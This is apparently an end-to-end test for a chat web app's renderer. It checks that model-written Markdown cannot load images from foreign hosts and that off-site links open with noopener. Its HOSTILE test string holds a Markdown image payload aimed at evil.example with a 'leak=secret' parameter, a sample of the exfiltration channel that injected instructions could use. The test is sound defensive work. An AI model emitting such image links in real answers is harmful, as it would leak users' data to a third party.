// What the model writes can be steered by anything it read, so its Markdown is hostile input: the
// real server on `--model openai` against the loopback stand-in of the provider, which answers
// with images and links to other sites, rendered in Chromium. No image may be fetched from a host
// the thread does not allow (a tracking and exfiltration channel), and links to other sites open
// in a new tab without the opener.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { launchBrowser, openApp, openPage, startServer, startUpstream } from './harness.mjs';

let upstream;
let upstreamUrl;
let server;
let browser;

// One Chat Completions stream whose text is `text`, in a few chunks.
function chatStream(text) {
  const chunk = (delta, finish = null) => `data: ${JSON.stringify({
    id: 'chatcmpl-e2e', object: 'chat.completion.chunk', created: 1718030412, model: 'gpt-4o-mini',
    choices: [{ index: 0, delta, finish_reason: finish }],
  })}\n\n`;
  const pieces = text.match(/.{1,24}/gs);
  return {
    status: 200,
    headers: { 'Content-Type': 'text/event-stream' },
    match: '/v1/chat/completions',
    chunks: [chunk({ role: 'assistant', content: '' }), ...pieces.map((piece) => chunk({ content: piece })),
      chunk({}, 'stop'), 'data: [DONE]\n\n'].map((data) => ({ data })),
  };
}

before(async () => {
  ({ child: upstream, url: upstreamUrl } = await startUpstream());
  process.env.OPENAI_BASE_URL = `${upstreamUrl}/v1`;
  process.env.OPENAI_API_KEY = 'sk-e2e';
  process.env.OPENAI_API = 'chat';
  server = await startServer(['--use-case', 'chat', '--model', 'openai']);
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.stop();
  upstream?.kill();
});

const HOSTILE = 'See ![tracker pixel](https://evil.example/t.png?leak=secret) and ![rel](//evil.example/r.png) ' +
  'and ![own](/favicon.ico), then [a site](//evil.example/page) or [another](https://other.example/).';

test('images from other sites are links with their alt text, and no request leaves for them', async () => {
  // The answer, then the title request (a failure there only means a derived title).
  const script = [chatStream(HOSTILE)];
  const queued = await fetch(`${upstreamUrl}/_script`, { method: 'POST', body: JSON.stringify(script) });
  assert.equal(queued.status, 200);
  const page = await openPage(browser, server);
  await openApp(page, server);
  await page.getByRole('textbox', { name: 'Message' }).fill('show me');
  await page.getByRole('textbox', { name: 'Message' }).press('Enter');
  const answer = page.locator('.ck-item-assistant-message .ck-content').last();
  await page.waitForFunction(() => /another/.test(ckRoot().querySelector('.ck-item-assistant-message .ck-content')?.textContent ?? ''));
  await page.getByRole('button', { name: 'Send' }).waitFor();
  const images = await answer.locator('img').evaluateAll((nodes) => nodes.map((node) => node.getAttribute('src')));
  assert.deepEqual(images, ['/favicon.ico'], 'only the same-origin image loads');
  const links = await answer.locator('a').evaluateAll((nodes) => nodes.map((node) => ({
    text: node.textContent, href: node.getAttribute('href'), target: node.getAttribute('target'), rel: node.getAttribute('rel'),
  })));
  const byText = Object.fromEntries(links.map((link) => [link.text, link]));
  for (const name of ['tracker pixel', 'rel', 'a site', 'another']) {
    assert.ok(byText[name], `${name} is a link: ${JSON.stringify(links)}`);
    assert.equal(byText[name].target, '_blank', name);
    assert.match(byText[name].rel ?? '', /noopener/, name);
    assert.match(byText[name].rel ?? '', /noreferrer/, name);
  }
  // The harness refuses and records every request that leaves the server's origin.
  assert.deepEqual(page.trouble.foreign, []);
  assert.deepEqual(page.trouble.errors, []);
  await page.context().close();
});
